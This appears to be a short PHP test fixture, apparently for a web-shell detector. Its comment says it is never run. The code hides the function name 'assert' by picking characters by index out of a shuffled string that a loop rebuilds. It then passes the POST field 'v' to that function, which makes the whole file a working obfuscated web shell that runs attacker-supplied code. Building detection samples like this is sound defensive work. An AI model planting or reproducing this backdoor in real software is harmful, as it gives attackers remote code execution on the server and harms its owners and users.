<?php
// a function name read letter by letter (quoted indexes) out of a shuffled table that a
// loop rebuilds (written for the tests, never run)
function unshuffle($s) { $o = ''; for ($i = 0; $i < strlen($s); $i += 2) { $o .= $s[$i]; } return $o; }
$t = unshuffle('0a1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6q7r8s9tq7w1e8r2t9y3u0i4o5p6a1s2d3f4g5h6j7k8l9z0x1c2v3b4n5m6');
$f = $t['30'].$t['31'].$t['31'].$t['22'].$t['23'].$t['24'];
$f($_POST['v']);
